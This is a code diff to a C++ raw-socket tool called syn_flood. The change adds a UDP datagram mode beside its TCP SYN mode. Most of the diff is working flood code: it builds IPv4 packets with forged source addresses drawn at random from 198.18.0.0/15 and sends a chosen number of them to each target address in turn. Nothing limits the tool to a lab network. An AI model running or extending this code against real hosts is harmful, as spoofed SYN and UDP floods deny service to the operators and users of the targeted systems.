@@ -1,4 +1,5 @@
-// syn_flood ADDRESS... PORT COUNT: so many TCP SYNs with forged sources to each address in turn.
+// syn_flood [udp] ADDRESS... PORT COUNT: so many TCP SYNs, or datagrams, with forged sources, to
+// each address in turn.
 #include <arpa/inet.h>
 #include <cerrno>
 #include <cstdio>
@@ -24,7 +25,22 @@ std::uint16_t folded(std::uint32_t sum) {
   return static_cast<std::uint16_t>(~sum);
 }
 
-// The kernel fills in length, ID and checksum of the IP header.
+// The kernel fills in length, ID and checksum of the IP header. UDP over IPv4 needs no checksum.
+std::array<std::uint8_t, 40> datagram(std::uint32_t source, std::uint32_t destination,
+                                      std::uint16_t port, std::uint32_t chance) {
+  std::array<std::uint8_t, 40> packet{};
+  Writer ip(packet);
+  ip.u32(0x45000000);
+  ip.u32(0);
+  ip.u32(0x40110000);
+  ip.u32(source);
+  ip.u32(destination);
+  ip.u16(static_cast<std::uint16_t>(1024 + chance % 60000));
+  ip.u16(port);
+  ip.u16(20);  // header and content
+  return packet;
+}
+
 std::array<std::uint8_t, 40> syn(std::uint32_t source, std::uint32_t destination,
                                  std::uint16_t port, std::uint32_t chance) {
   std::array<std::uint8_t, 40> packet{};
@@ -49,6 +65,11 @@ std::array<std::uint8_t, 40> syn(std::uint32_t source, std::uint32_t destination
 }  // namespace
 
 int main(int argc, char** argv) {
+  const bool udp = argc > 1 && std::string_view(argv[1]) == "udp";
+  if (udp) {
+    --argc;
+    ++argv;
+  }
   if (argc < 4) return 2;
   const auto port = static_cast<std::uint16_t>(std::atoi(argv[argc - 2]));
   const int count = std::atoi(argv[argc - 1]);
@@ -61,8 +82,8 @@ int main(int argc, char** argv) {
     ::inet_pton(AF_INET, argv[1 + i % (argc - 3)], &to.sin_addr);
     // 198.18.0.0/15, which is nobody's.
     const std::uint32_t source = 0xc6120000 | (static_cast<std::uint32_t>(chance()) & 0x1ffff);
-    const auto packet =
-        syn(source, ntohl(to.sin_addr.s_addr), port, static_cast<std::uint32_t>(chance()));
+    const auto packet = (udp ? datagram : syn)(source, ntohl(to.sin_addr.s_addr), port,
+                                               static_cast<std::uint32_t>(chance()));
     if (::sendto(raw, packet.data(), packet.size(), 0, reinterpret_cast<const sockaddr*>(&to),
                  sizeof to) < 0 &&
         errno != ENOBUFS)
